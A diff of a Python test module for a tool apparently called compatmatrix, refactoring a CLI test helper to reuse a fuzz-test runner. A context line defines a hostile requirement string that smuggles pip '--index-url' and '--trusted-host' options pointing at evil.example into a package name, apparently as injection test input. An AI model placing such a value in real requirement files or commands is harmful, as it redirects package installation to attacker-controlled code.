@@ -32,6 +32,7 @@ from compatmatrix.shell_env import EnvPlan, format_env
 from compatmatrix.values import UnwritableValue
 
 from .hostile_strings import hostile, hostile_requirement
+from .test_cli_fuzz import run_in_process as cli_in_process
 
 if sys.version_info >= (3, 11):
     import tomllib
@@ -274,14 +275,8 @@ EVIL_NAME = "numpy\n--index-url https://evil.example/simple\n--trusted-host evil
 
 
 def run_in_process(argv, capsys, monkeypatch, tmp_path):
-    from compatmatrix.cli import main
-
     monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
-    try:
-        code = main(argv)
-    except SystemExit as exc:
-        code = exc.code if isinstance(exc.code, int) else 2
-    out, err = capsys.readouterr()
+    code, out, err = cli_in_process(argv, capsys)
     assert "Traceback" not in err and "internal error" not in err, err
     return code, out, err
 
